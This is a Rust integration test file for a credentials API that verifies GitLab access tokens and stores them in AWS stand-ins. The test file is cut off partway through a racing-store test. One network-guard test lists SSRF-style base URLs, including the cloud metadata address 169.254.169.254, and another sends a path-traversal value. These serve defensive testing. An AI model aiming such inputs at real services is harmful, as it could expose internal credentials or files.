@@ -1,0 +1,1825 @@
+//! The credentials API handler end to end: API Gateway v2 requests (built from `events/*.json`) into
+//! `shared::credentials::handler`, with the real DynamoDB and Secrets Manager adapters against the moto server
+//! and the real GitLab verification against the GitLab simulator.
+
+use std::collections::BTreeMap;
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use aws_sdk_dynamodb::types::AttributeValue;
+use lambda_http::{Request, RequestExt};
+use serde_json::{Value, json};
+use shared::aws::credential_store::DynamoCredentialStore;
+use shared::aws::secrets::SecretsManagerVault;
+use shared::credentials::model::CredentialRecord;
+use shared::credentials::{
+    ConnectionId, CredentialId, CredentialStore, Credentials, CredentialsApi, GitLabVerifier,
+    StoreError, handler,
+};
+use shared::gitlab::{HttpClients, NetworkPolicy, RetryPolicy, Timeouts};
+use shared::secret::SecretString;
+use testkit::aws_local::AwsStandIn;
+use testkit::gitlab_sim::{
+    Fault, Membership, Namespace, ProjectSpec, Simulator, TokenSpec, World, access, routes,
+};
+use testkit::tls_front::TlsFront;
+
+const GOOD: &str = "glpat-credapi-good-token-00001";
+const ROTATED: &str = "glpat-credapi-rotated-token-002";
+const PROJECTS_ONLY: &str = "glpat-credapi-projects-only-03";
+const NOTHING: &str = "glpat-credapi-reaches-nothing-4";
+const GUEST: &str = "glpat-credapi-guest-only-00005";
+const NO_SCOPE: &str = "glpat-credapi-no-api-scope-006";
+const EXPIRED: &str = "glpat-credapi-expired-token-07";
+const REVOKED: &str = "glpat-credapi-revoked-token-08";
+const UNKNOWN: &str = "glpat-credapi-unknown-token-09";
+const ALL_TOKENS: &[&str] = &[
+    GOOD,
+    ROTATED,
+    PROJECTS_ONLY,
+    NOTHING,
+    GUEST,
+    NO_SCOPE,
+    EXPIRED,
+    REVOKED,
+    UNKNOWN,
+];
+const CONN: &str = "acme-prod";
+
+type Api = CredentialsApi<DynamoCredentialStore, SecretsManagerVault, GitLabVerifier>;
+
+static NEXT_PREFIX: AtomicU32 = AtomicU32::new(0);
+
+struct Env {
+    aws: AwsStandIn,
+    sim: Simulator,
+    api: Api,
+    prefix: String,
+}
+
+/// A GitLab with users in every situation verification distinguishes.
+fn world() -> World {
+    let mut world = World::new();
+    let dev = world.add_user("developer");
+    world.add_token(TokenSpec::new(GOOD, dev, &["read_api"]));
+    world.add_token(TokenSpec::new(ROTATED, dev, &["api"]));
+    world.add_token(TokenSpec::new(NO_SCOPE, dev, &["read_repository"]));
+    let yesterday = time::OffsetDateTime::now_utc().date() - time::Duration::days(1);
+    world.add_token(TokenSpec::new(EXPIRED, dev, &["read_api"]).with_expiry(yesterday));
+    let revoked = world.add_token(TokenSpec::new(REVOKED, dev, &["read_api"]));
+    world.token_mut(revoked).revoked = true;
+    let group = world.add_group("acme", None);
+    world.add_member(dev, Membership::Group(group), access::DEVELOPER);
+
+    let solo = world.add_user("solo");
+    world.add_token(TokenSpec::new(PROJECTS_ONLY, solo, &["read_api"]));
+    let personal = world.add_project(ProjectSpec::new(
+        Namespace::User(solo),
+        "tool",
+        None,
+        "main",
+    ));
+    world.add_member(solo, Membership::Project(personal), access::MAINTAINER);
+
+    let nobody = world.add_user("nobody");
+    world.add_token(TokenSpec::new(NOTHING, nobody, &["read_api"]));
+    let guest = world.add_user("guest");
+    world.add_token(TokenSpec::new(GUEST, guest, &["read_api"]));
+    world.add_member(guest, Membership::Group(group), access::GUEST);
+    world
+}
+
+fn fast_verification() -> RetryPolicy {
+    RetryPolicy {
+        max_attempts: 3,
+        base_delay: Duration::from_millis(5),
+        max_delay: Duration::from_millis(50),
+        max_rate_limit_waits: 2,
+        max_rate_limit_wait: Duration::from_secs(5),
+        ..RetryPolicy::default()
+    }
+}
+
+fn verifier(policy: NetworkPolicy) -> GitLabVerifier {
+    let http = HttpClients::new(
+        policy,
+        Timeouts {
+            connect: Duration::from_secs(2),
+            read: Duration::from_secs(5),
+            total: Duration::from_secs(10),
+        },
+    )
+    .expect("HTTP clients");
+    GitLabVerifier::new(Arc::new(http), 1_000_000)
+        .with_limits(fast_verification(), Duration::from_secs(15))
+}
+
+fn api_for(
+    aws: &AwsStandIn,
+    table: &str,
+    prefix: &str,
+    base_url: &str,
+    policy: NetworkPolicy,
+) -> Api {
+    CredentialsApi {
+        credentials: Credentials {
+            store: DynamoCredentialStore::new(aws.dynamodb.clone(), table),
+            vault: SecretsManagerVault::new(aws.secrets.clone()),
+            verifier: verifier(policy),
+            secret_name_prefix: prefix.to_owned(),
+            default_base_url: base_url.to_owned(),
+        },
+        allow_unauthenticated: false,
+    }
+}
+
+async fn env() -> Env {
+    captured_logs();
+    let aws = AwsStandIn::provision().await.expect("stand-in");
+    let sim = Simulator::start(world()).await.expect("simulator");
+    let prefix = format!(
+        "it-credentials-{}-{}/",
+        std::process::id(),
+        NEXT_PREFIX.fetch_add(1, Ordering::Relaxed)
+    );
+    let api = api_for(
+        &aws,
+        aws.table("StateTable"),
+        &prefix,
+        &sim.base_url(),
+        NetworkPolicy::AllowPrivate,
+    );
+    Env {
+        aws,
+        sim,
+        api,
+        prefix,
+    }
+}
+
+/// A sample event from `events/`.
+fn event(name: &str) -> Value {
+    let path = format!(
+        "{}/../events/apigw-credentials-{name}.json",
+        env!("CARGO_MANIFEST_DIR")
+    );
+    serde_json::from_str(&std::fs::read_to_string(&path).expect(&path)).expect("event JSON")
+}
+
+fn into_request(event: &Value) -> Request {
+    lambda_http::request::from_str(&event.to_string()).expect("API Gateway v2 event")
+}
+
+/// An API Gateway v2 request (the create sample, reshaped): `path` may carry a query string.
+fn request(method: &str, path: &str, content_type: Option<&str>, body: Option<String>) -> Request {
+    let mut e = event("create");
+    let (raw_path, query) = path.split_once('?').unwrap_or((path, ""));
+    e["rawPath"] = raw_path.into();
+    e["rawQueryString"] = query.into();
+    e["requestContext"]["http"]["method"] = method.into();
+    e["requestContext"]["http"]["path"] = raw_path.into();
+    e.as_object_mut().unwrap().remove("pathParameters");
+    let headers = e["headers"].as_object_mut().unwrap();
+    headers.remove("content-type");
+    headers.remove("content-length");
+    if let Some(content_type) = content_type {
+        headers.insert("content-type".into(), content_type.into());
+    }
+    match body {
+        Some(body) => e["body"] = body.into(),
+        None => {
+            e.as_object_mut().unwrap().remove("body");
+        }
+    }
+    into_request(&e)
+}
+
+fn post(route: &str, body: &Value) -> Request {
+    request(
+        "POST",
+        &format!("/connections/{CONN}/{route}"),
+        Some("application/json"),
+        Some(body.to_string()),
+    )
+}
+
+fn get(route: &str) -> Request {
+    request("GET", &format!("/connections/{CONN}/{route}"), None, None)
+}
+
+/// Status and JSON body of the handler's reply; every reply must be JSON with a boolean `ok`.
+async fn send(api: &Api, req: Request) -> (u16, Value) {
+    let reply = handler(api, req).await.expect("the handler never fails");
+    let status = reply.status().as_u16();
+    assert_eq!(
+        reply.headers()["content-type"],
+        "application/json",
+        "status {status}"
+    );
+    let body: Value = serde_json::from_slice(reply.body().as_ref()).expect("JSON reply");
+    assert_eq!(
+        body["ok"].as_bool(),
+        Some((200..300).contains(&status)),
+        "{body}"
+    );
+    if status >= 400 {
+        assert!(
+            body["error"].is_string() && body["message"].is_string(),
+            "{body}"
+        );
+    }
+    (status, body)
+}
+
+fn create_body(env: &Env, token: &str) -> Value {
+    json!({
+        "label": "Production",
+        "settings": {"base_url": env.sim.base_url()},
+        "secrets": {"api_token": token},
+    })
+}
+
+async fn create(env: &Env, token: &str) -> Value {
+    let (status, body) = send(
+        &env.api,
+        post("credentials.create", &create_body(env, token)),
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+    body["credential"].clone()
+}
+
+/// Every item of this test's state table, in a stable order and form.
+async fn table_items(env: &Env) -> Vec<BTreeMap<String, AttributeValue>> {
+    let mut items = Vec::new();
+    let mut start = None;
+    loop {
+        let output = env
+            .aws
+            .dynamodb
+            .scan()
+            .table_name(env.aws.table("StateTable"))
+            .set_exclusive_start_key(start)
+            .send()
+            .await
+            .expect("scan");
+        items.extend(
+            output
+                .items
+                .unwrap_or_default()
+                .into_iter()
+                .map(|item| item.into_iter().collect::<BTreeMap<_, _>>()),
+        );
+        match output.last_evaluated_key {
+            Some(key) if !key.is_empty() => start = Some(key),
+            _ => break,
+        }
+    }
+    items.sort_by_key(|item| format!("{item:?}"));
+    items
+}
+
+/// This test's secrets: name -> (current value unless scheduled for deletion, scheduled for deletion).
+async fn secrets(env: &Env) -> BTreeMap<String, (Option<String>, bool)> {
+    let mut found = BTreeMap::new();
+    let mut next = None;
+    loop {
+        let output = env
+            .aws
+            .secrets
+            .list_secrets()
+            .include_planned_deletion(true)
+            .set_next_token(next)
+            .send()
+            .await
+            .expect("list secrets");
+        for entry in output.secret_list() {
+            let name = entry.name().unwrap_or_default();
+            if !name.starts_with(&env.prefix) {
+                continue;
+            }
+            let scheduled = entry.deleted_date().is_some();
+            let value = if scheduled {
+                None
+            } else {
+                env.aws
+                    .secrets
+                    .get_secret_value()
+                    .secret_id(name)
+                    .send()
+                    .await
+                    .expect("secret value")
+                    .secret_string
+            };
+            found.insert(name.to_owned(), (value, scheduled));
+        }
+        next = output.next_token;
+        if next.is_none() {
+            break;
+        }
+    }
+    found
+}
+
+async fn stored(
+    env: &Env,
+) -> (
+    Vec<BTreeMap<String, AttributeValue>>,
+    BTreeMap<String, (Option<String>, bool)>,
+) {
+    (table_items(env).await, secrets(env).await)
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// create
+
+#[tokio::test]
+async fn create_verifies_then_keeps_the_token_in_its_own_secret_and_metadata_in_the_table() {
+    let env = env().await;
+    let mut body = create_body(&env, GOOD);
+    body["expiration_date"] = "2099-12-31".into();
+    body["settings"]["requests_per_minute"] = 600.into();
+    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
+    assert_eq!(status, 201, "{reply}");
+    let credential = &reply["credential"];
+    let id = credential["id"].as_str().unwrap();
+    assert!(id.starts_with("cred_"));
+    assert_eq!(credential["type"], "gitlab");
+    assert_eq!(credential["label"], "Production");
+    assert_eq!(credential["status"], "active");
+    assert_eq!(credential["settings"]["base_url"], env.sim.base_url());
+    assert_eq!(credential["settings"]["requests_per_minute"], 600);
+    assert_eq!(credential["expiration_date"], "2099-12-31");
+    assert_eq!(credential["deleted_at"], Value::Null);
+    assert_eq!(credential["last_sync"], Value::Null);
+    assert!(credential["created_at"].as_str().unwrap().ends_with('Z'));
+    assert_eq!(
+        credential["token_fingerprint"],
+        SecretString::new(GOOD).fingerprint()
+    );
+
+    // Bounded verification: the token, then one page of groups (found one, so no projects probe).
+    assert_eq!(env.sim.request_count(routes::PERSONAL_ACCESS_TOKEN_SELF), 1);
+    assert_eq!(env.sim.request_count(routes::GROUPS), 1);
+    assert_eq!(env.sim.request_count(routes::PROJECTS), 0);
+
+    let secret_name = format!("{}{CONN}/{id}", env.prefix);
+    let secrets = secrets(&env).await;
+    assert_eq!(
+        secrets,
+        BTreeMap::from([(secret_name.clone(), (Some(GOOD.to_owned()), false))])
+    );
+    let described = env
+        .aws
+        .secrets
+        .describe_secret()
+        .secret_id(&secret_name)
+        .send()
+        .await
+        .unwrap();
+    let tags: BTreeMap<_, _> = described
+        .tags()
+        .iter()
+        .map(|t| (t.key().unwrap().to_owned(), t.value().unwrap().to_owned()))
+        .collect();
+    assert_eq!(tags["connection_id"], CONN);
+    assert_eq!(tags["credential_id"], id);
+
+    let items = table_items(&env).await;
+    assert_eq!(items.len(), 2, "the connection and the credential");
+    let record = items
+        .iter()
+        .find(|i| i["sk"] == AttributeValue::S(format!("CRED#{id}")))
+        .expect("credential item");
+    assert_eq!(record["pk"], AttributeValue::S(format!("CONN#{CONN}")));
+    assert_eq!(record["secret_name"], AttributeValue::S(secret_name));
+    assert!(!format!("{items:?}").contains(GOOD));
+    assert!(
+        items
+            .iter()
+            .any(|i| i["sk"] == AttributeValue::S("CONNECTION".into()))
+    );
+}
+
+#[tokio::test]
+async fn create_accepts_form_bodies_and_tokens_that_reach_only_projects() {
+    let env = env().await;
+    let form = format!(
+        "label=Solo&settings%5Bbase_url%5D={}&secrets%5Bapi_token%5D={PROJECTS_ONLY}",
+        url::form_urlencoded::byte_serialize(env.sim.base_url().as_bytes()).collect::<String>()
+    );
+    let req = request(
+        "POST",
+        &format!("/connections/{CONN}/credentials.create"),
+        Some("application/x-www-form-urlencoded"),
+        Some(form),
+    );
+    let (status, reply) = send(&env.api, req).await;
+    assert_eq!(status, 201, "{reply}");
+    assert_eq!(reply["credential"]["label"], "Solo");
+    // No group: one page of member projects was asked for too, and no more.
+    assert_eq!(env.sim.request_count(routes::GROUPS), 1);
+    assert_eq!(env.sim.request_count(routes::PROJECTS), 1);
+    assert_eq!(env.sim.total_requests(), 3);
+}
+
+#[tokio::test]
+async fn create_uses_the_default_base_url_when_settings_name_none() {
+    let env = env().await;
+    let (status, reply) = send(
+        &env.api,
+        post(
+            "credentials.create",
+            &json!({"secrets": {"api_token": GOOD}}),
+        ),
+    )
+    .await;
+    assert_eq!(status, 201, "{reply}");
+    assert_eq!(
+        reply["credential"]["settings"]["base_url"],
+        env.sim.base_url()
+    );
+    assert_eq!(reply["credential"]["label"], Value::Null);
+}
+
+#[tokio::test]
+async fn a_token_that_fails_verification_stores_nothing() {
+    let env = env().await;
+    let cases = [
+        (UNKNOWN, 401, "invalid_credentials"),
+        (EXPIRED, 401, "invalid_credentials"),
+        (REVOKED, 401, "invalid_credentials"),
+        (NO_SCOPE, 403, "invalid_permissions"),
+        (NOTHING, 422, "no_resources"),
+        (GUEST, 422, "no_resources"),
+    ];
+    for (token, expected_status, code) in cases {
+        let (status, reply) = send(
+            &env.api,
+            post("credentials.create", &create_body(&env, token)),
+        )
+        .await;
+        assert_eq!(
+            (status, reply["error"].as_str()),
+            (expected_status, Some(code)),
+            "{token}: {reply}"
+        );
+    }
+    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
+    // Bounded: at most the token, one page of groups and one page of projects per attempt.
+    assert!(env.sim.total_requests() <= 3 * cases.len() as u64);
+}
+
+#[tokio::test]
+async fn settings_the_network_guard_refuses_are_invalid_settings() {
+    let env = env().await;
+    let public = api_for(
+        &env.aws,
+        env.aws.table("StateTable"),
+        &env.prefix,
+        "https://gitlab.com/",
+        NetworkPolicy::PublicOnly,
+    );
+    for base_url in [
+        "https://127.0.0.1/",
+        "https://169.254.169.254/latest/",
+        "https://[::1]:8443/",
+        "https://localhost/",
+        "http://gitlab.example.com/",
+        "ftp://gitlab.example.com/",
+        "https://user:pass@gitlab.example.com/",
+        "https://gitlab.example.com/?x=1",
+        "not a url",
+        &env.sim.base_url(),
+    ] {
+        let mut body = create_body(&env, GOOD);
+        body["settings"]["base_url"] = base_url.into();
+        let (status, reply) = send(&public, post("credentials.create", &body)).await;
+        assert_eq!(
+            (status, reply["error"].as_str()),
+            (400, Some("invalid_settings")),
+            "{base_url}: {reply}"
+        );
+    }
+    // A CA bundle that is not a certificate.
+    let mut body = create_body(&env, GOOD);
+    body["settings"]["ca_bundle"] =
+        "-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n".into();
+    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (400, Some("invalid_settings")),
+        "{reply}"
+    );
+    // Something that is not a GitLab API answers 404 on personal_access_tokens/self.
+    let mut body = create_body(&env, GOOD);
+    body["settings"]["base_url"] = format!("{}not-gitlab/", env.sim.base_url()).into();
+    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (400, Some("invalid_settings")),
+        "{reply}"
+    );
+    assert_eq!(env.sim.request_count(routes::GROUPS), 0);
+    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
+}
+
+#[tokio::test]
+async fn a_gitlab_that_is_down_answers_5xx_or_fails_tls_is_unreachable_not_bad_credentials() {
+    let env = env().await;
+    let closed = {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.local_addr().unwrap().port()
+    };
+    let mut down = create_body(&env, GOOD);
+    down["settings"]["base_url"] = format!("http://127.0.0.1:{closed}/").into();
+    let (status, reply) = send(&env.api, post("credentials.create", &down)).await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (502, Some("gitlab_unreachable")),
+        "{reply}"
+    );
+
+    // A self-managed GitLab behind a private CA: refused without the bundle, verified with it.
+    let addr = url::Url::parse(&env.sim.base_url())
+        .unwrap()
+        .socket_addrs(|| None)
+        .unwrap()[0];
+    let tls = TlsFront::start(addr).await.unwrap();
+    let mut untrusted = create_body(&env, GOOD);
+    untrusted["settings"]["base_url"] = tls.base_url.clone().into();
+    let (status, reply) = send(&env.api, post("credentials.create", &untrusted)).await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (502, Some("gitlab_unreachable")),
+        "{reply}"
+    );
+    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
+
+    untrusted["settings"]["ca_bundle"] = tls.ca_pem.clone().into();
+    let (status, reply) = send(&env.api, post("credentials.create", &untrusted)).await;
+    assert_eq!(status, 201, "{reply}");
+    assert_eq!(
+        reply["credential"]["settings"]["ca_bundle"]["certificates"],
+        1
+    );
+    assert!(!reply.to_string().contains("BEGIN CERTIFICATE"));
+
+    // A rate limit longer than a caller can wait is reported as GitLab being unavailable, at once.
+    let before = stored(&env).await;
+    env.sim.fail_next(
+        routes::PERSONAL_ACCESS_TOKEN_SELF,
+        1,
+        Fault::RateLimited {
+            retry_after_secs: 600,
+        },
+    );
+    let started = std::time::Instant::now();
+    let (status, reply) = send(
+        &env.api,
+        post("credentials.create", &create_body(&env, GOOD)),
+    )
+    .await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (502, Some("gitlab_unreachable")),
+        "{reply}"
+    );
+    assert!(started.elapsed() < Duration::from_secs(5));
+    assert_eq!(stored(&env).await, before);
+
+    // GitLab answering 5xx: a bounded number of attempts, then 502, and nothing more stored.
+    let before = stored(&env).await;
+    env.sim.reset_counts();
+    env.sim.fail_next("*", 100, Fault::ServerError(503));
+    let (status, reply) = send(
+        &env.api,
+        post("credentials.create", &create_body(&env, GOOD)),
+    )
+    .await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (502, Some("gitlab_unreachable")),
+        "{reply}"
+    );
+    assert_eq!(
+        env.sim.request_count(routes::PERSONAL_ACCESS_TOKEN_SELF),
+        3,
+        "three attempts, then the verdict"
+    );
+    assert_eq!(stored(&env).await, before);
+}
+
+/// A store whose writes fail after the secret exists: the secret must be undone.
+struct FailingWrites(DynamoCredentialStore);
+
+impl CredentialStore for FailingWrites {
+    async fn ensure_connection(&self, c: &ConnectionId, at: &str) -> Result<(), StoreError> {
+        self.0.ensure_connection(c, at).await
+    }
+    async fn connection_exists(&self, c: &ConnectionId) -> Result<bool, StoreError> {
+        self.0.connection_exists(c).await
+    }
+    async fn insert(&self, _: &CredentialRecord) -> Result<(), StoreError> {
+        Err(StoreError::Unavailable {
+            operation: "PutItem credential",
+            detail: "ProvisionedThroughputExceededException (injected)".into(),
+        })
+    }
+    async fn replace(&self, _: &CredentialRecord, _: u64) -> Result<(), StoreError> {
+        Err(StoreError::Unavailable {
+            operation: "UpdateItem credential",
+            detail: "ProvisionedThroughputExceededException (injected)".into(),
+        })
+    }
+    async fn get(
+        &self,
+        c: &ConnectionId,
+        id: &CredentialId,
+    ) -> Result<Option<CredentialRecord>, StoreError> {
+        self.0.get(c, id).await
+    }
+    async fn list(&self, c: &ConnectionId) -> Result<Vec<CredentialRecord>, StoreError> {
+        self.0.list(c).await
+    }
+}
+
+fn failing_api(env: &Env) -> CredentialsApi<FailingWrites, SecretsManagerVault, GitLabVerifier> {
+    CredentialsApi {
+        credentials: Credentials {
+            store: FailingWrites(DynamoCredentialStore::new(
+                env.aws.dynamodb.clone(),
+                env.aws.table("StateTable"),
+            )),
+            vault: SecretsManagerVault::new(env.aws.secrets.clone()),
+            verifier: verifier(NetworkPolicy::AllowPrivate),
+            secret_name_prefix: env.prefix.clone(),
+            default_base_url: env.sim.base_url(),
+        },
+        allow_unauthenticated: false,
+    }
+}
+
+#[tokio::test]
+async fn a_failed_table_write_undoes_the_secret_and_answers_503_without_internals() {
+    let env = env().await;
+    let failing = failing_api(&env);
+    let reply = handler(
+        &failing,
+        post("credentials.create", &create_body(&env, GOOD)),
+    )
+    .await
+    .unwrap();
+    assert_eq!(reply.status().as_u16(), 503);
+    let body: Value = serde_json::from_slice(reply.body().as_ref()).unwrap();
+    assert_eq!(body["error"], "service_unavailable");
+    assert!(!body.to_string().contains("Exception"), "{body}");
+    assert!(secrets(&env).await.is_empty(), "the secret was deleted");
+    assert!(
+        table_items(&env)
+            .await
+            .iter()
+            .all(|i| i["sk"] == AttributeValue::S("CONNECTION".into())),
+        "no credential record"
+    );
+
+    // An update whose write fails leaves the old token in place.
+    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
+    let before = stored(&env).await;
+    let reply = handler(
+        &failing,
+        post(
+            "credentials.update",
+            &json!({"id": id, "secrets": {"api_token": ROTATED}}),
+        ),
+    )
+    .await
+    .unwrap();
+    assert_eq!(reply.status().as_u16(), 503);
+    assert_eq!(stored(&env).await, before);
+}
+
+#[tokio::test]
+async fn our_own_aws_failures_are_503() {
+    let env = env().await;
+    let broken = api_for(
+        &env.aws,
+        "no-such-table",
+        &env.prefix,
+        &env.sim.base_url(),
+        NetworkPolicy::AllowPrivate,
+    );
+    let (status, reply) = send(&broken, get("credentials.list")).await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (503, Some("service_unavailable"))
+    );
+    assert!(!reply.to_string().contains("no-such-table"));
+    let (status, _) = send(
+        &broken,
+        post("credentials.create", &create_body(&env, GOOD)),
+    )
+    .await;
+    assert_eq!(status, 503);
+    assert!(secrets(&env).await.is_empty());
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// info and list
+
+#[tokio::test]
+async fn info_and_list_show_metadata_status_and_sync_summary_never_the_token() {
+    let env = env().await;
+    let first = create(&env, GOOD).await;
+    let second = create(&env, PROJECTS_ONLY).await;
+    let first_id = first["id"].as_str().unwrap();
+
+    let (status, reply) = send(&env.api, get(&format!("credentials.info/{first_id}"))).await;
+    assert_eq!(status, 200, "{reply}");
+    assert_eq!(reply["credential"], first);
+    for field in [
+        "id",
+        "type",
+        "label",
+        "settings",
+        "created_at",
+        "disabled_at",
+        "deleted_at",
+        "expiration_date",
+        "status",
+        "last_verified_at",
+        "token_fingerprint",
+        "last_sync",
+    ] {
+        assert!(reply["credential"].get(field).is_some(), "{field}");
+    }
+
+    let (status, reply) = send(&env.api, get("credentials.list")).await;
+    assert_eq!(status, 200);
+    let ids: Vec<_> = reply["credentials"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["id"].clone())
+        .collect();
+    assert_eq!(ids.len(), 2);
+    assert!(ids.contains(&first["id"]) && ids.contains(&second["id"]));
+    assert!(!reply.to_string().contains(GOOD) && !reply.to_string().contains(PROJECTS_ONLY));
+
+    // The worker fills the sync summary; a past expiration date shows as expired.
+    env.aws
+        .dynamodb
+        .update_item()
+        .table_name(env.aws.table("StateTable"))
+        .key("pk", AttributeValue::S(format!("CONN#{CONN}")))
+        .key("sk", AttributeValue::S(format!("CRED#{first_id}")))
+        .update_expression("SET last_sync = :s, expiration_date = :d")
+        .expression_attribute_values(
+            ":s",
+            AttributeValue::M(
+                [
+                    ("projects".to_owned(), AttributeValue::N("12".into())),
+                    ("commits".to_owned(), AttributeValue::N("3456".into())),
+                    (
+                        "last_success_at".to_owned(),
+                        AttributeValue::S("2026-11-24T20:00:00Z".into()),
+                    ),
+                    ("last_error".to_owned(), AttributeValue::Null(true)),
+                ]
+                .into(),
+            ),
+        )
+        .expression_attribute_values(":d", AttributeValue::S("2001-01-01".into()))
+        .send()
+        .await
+        .unwrap();
+    let (_, reply) = send(&env.api, get(&format!("credentials.info/{first_id}"))).await;
+    assert_eq!(reply["credential"]["status"], "expired");
+    assert_eq!(
+        reply["credential"]["last_sync"],
+        json!({"projects": 12, "commits": 3456, "last_success_at": "2026-11-24T20:00:00Z", "last_error": null})
+    );
+}
+
+#[tokio::test]
+async fn unknown_connections_and_credentials_are_404() {
+    let env = env().await;
+    let missing_id = "cred_00000000000000000000000000";
+    for req in [
+        get("credentials.list"),
+        get(&format!("credentials.info/{missing_id}")),
+        post(
+            "credentials.update",
+            &json!({"id": missing_id, "label": "x"}),
+        ),
+        post("credentials.delete", &json!({"id": missing_id})),
+    ] {
+        let (status, reply) = send(&env.api, req).await;
+        assert_eq!(
+            (status, reply["error"].as_str()),
+            (404, Some("connection_not_found")),
+            "{reply}"
+        );
+    }
+    create(&env, GOOD).await;
+    for req in [
+        get(&format!("credentials.info/{missing_id}")),
+        get("credentials.info/..%2F..%2Fetc"),
+        post(
+            "credentials.update",
+            &json!({"id": missing_id, "label": "x"}),
+        ),
+        post("credentials.delete", &json!({"id": missing_id})),
+    ] {
+        let (status, reply) = send(&env.api, req).await;
+        assert_eq!(
+            (status, reply["error"].as_str()),
+            (404, Some("credential_not_found")),
+            "{reply}"
+        );
+    }
+    for path in [
+        "/connections/has%20space/credentials.list",
+        "/connections/a.b/credentials.list",
+        &format!("/connections/{}/credentials.list", "x".repeat(65)),
+    ] {
+        let (status, reply) = send(&env.api, request("GET", path, None, None)).await;
+        assert_eq!(
+            (status, reply["error"].as_str()),
+            (404, Some("connection_not_found")),
+            "{path}"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// update
+
+#[tokio::test]
+async fn update_reverifies_and_rotates_the_token_in_place() {
+    let env = env().await;
+    let created = create(&env, GOOD).await;
+    let id = created["id"].as_str().unwrap().to_owned();
+    let secret_name = format!("{}{CONN}/{id}", env.prefix);
+
+    // Label only: verified again with the stored token, which stays.
+    env.sim.reset_counts();
+    let (status, reply) = send(
+        &env.api,
+        post(
+            "credentials.update",
+            &json!({"id": id, "label": "Renamed", "secrets": {}}),
+        ),
+    )
+    .await;
+    assert_eq!(status, 200, "{reply}");
+    assert_eq!(reply["credential"]["label"], "Renamed");
+    assert_eq!(
+        reply["credential"]["token_fingerprint"],
+        created["token_fingerprint"]
+    );
+    assert_eq!(reply["credential"]["settings"], created["settings"]);
+    assert_eq!(env.sim.request_count(routes::PERSONAL_ACCESS_TOKEN_SELF), 1);
+
+    // Rotation: the same secret gets the new value.
+    let (status, reply) = send(
+        &env.api,
+        post(
+            "credentials.update",
+            &json!({"id": id, "secrets": {"api_token": ROTATED}, "settings": {"requests_per_minute": 100}}),
+        ),
+    )
+    .await;
+    assert_eq!(status, 200, "{reply}");
+    assert_eq!(
+        reply["credential"]["token_fingerprint"],
+        SecretString::new(ROTATED).fingerprint()
+    );
+    assert_eq!(reply["credential"]["label"], "Renamed");
+    assert_eq!(reply["credential"]["settings"]["requests_per_minute"], 100);
+    assert_eq!(
+        secrets(&env).await,
+        BTreeMap::from([(secret_name, (Some(ROTATED.to_owned()), false))])
+    );
+
+    // Clearing with null.
+    let (status, reply) = send(
+        &env.api,
+        post(
+            "credentials.update",
+            &json!({"id": id, "label": null, "settings": {"requests_per_minute": null}}),
+        ),
+    )
+    .await;
+    assert_eq!(status, 200, "{reply}");
+    assert_eq!(reply["credential"]["label"], Value::Null);
+    assert_eq!(
+        reply["credential"]["settings"]["requests_per_minute"],
+        Value::Null
+    );
+}
+
+#[tokio::test]
+async fn a_failed_update_leaves_the_credential_untouched() {
+    let env = env().await;
+    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
+    let before = stored(&env).await;
+    let closed = {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.local_addr().unwrap().port()
+    };
+    let cases = [
+        (
+            json!({"id": id, "secrets": {"api_token": NO_SCOPE}}),
+            403,
+            "invalid_permissions",
+        ),
+        (
+            json!({"id": id, "secrets": {"api_token": UNKNOWN}, "label": "x"}),
+            401,
+            "invalid_credentials",
+        ),
+        (
+            json!({"id": id, "secrets": {"api_token": NOTHING}}),
+            422,
+            "no_resources",
+        ),
+        (
+            json!({"id": id, "settings": {"base_url": format!("http://127.0.0.1:{closed}/")}}),
+            502,
+            "gitlab_unreachable",
+        ),
+        (
+            json!({"id": id, "settings": {"base_url": "ftp://x/"}}),
+            400,
+            "invalid_settings",
+        ),
+        (
+            json!({"id": id, "secrets": {"api_token": ""}}),
+            400,
+            "missing_token",
+        ),
+        (
+            json!({"id": id, "expiration_date": "tomorrow"}),
+            400,
+            "invalid_expiration_date",
+        ),
+        (json!({"id": id, "label": 7}), 400, "invalid_request"),
+    ];
+    for (body, expected, code) in cases {
+        let (status, reply) = send(&env.api, post("credentials.update", &body)).await;
+        assert_eq!(
+            (status, reply["error"].as_str()),
+            (expected, Some(code)),
+            "{body}: {reply}"
+        );
+    }
+    env.sim.fail_next("*", 100, Fault::ServerError(500));
+    let (status, reply) = send(
+        &env.api,
+        post(
+            "credentials.update",
+            &json!({"id": id, "secrets": {"api_token": ROTATED}}),
+        ),
+    )
+    .await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (502, Some("gitlab_unreachable"))
+    );
+    assert_eq!(stored(&env).await, before);
+}
+
+/// A store where another writer changes the credential between our read and our write.
+struct RacingWrites(DynamoCredentialStore, aws_sdk_dynamodb::Client, String);
+
+impl CredentialStore for RacingWrites {
+    async fn ensure_connection(&self, c: &ConnectionId, at: &str) -> Result<(), StoreError> {
+        self.0.ensure_connection(c, at).await
+    }
+    async fn connection_exists(&self, c: &ConnectionId) -> Result<bool, StoreError> {
+        self.0.connection_exists(c).await
+    }
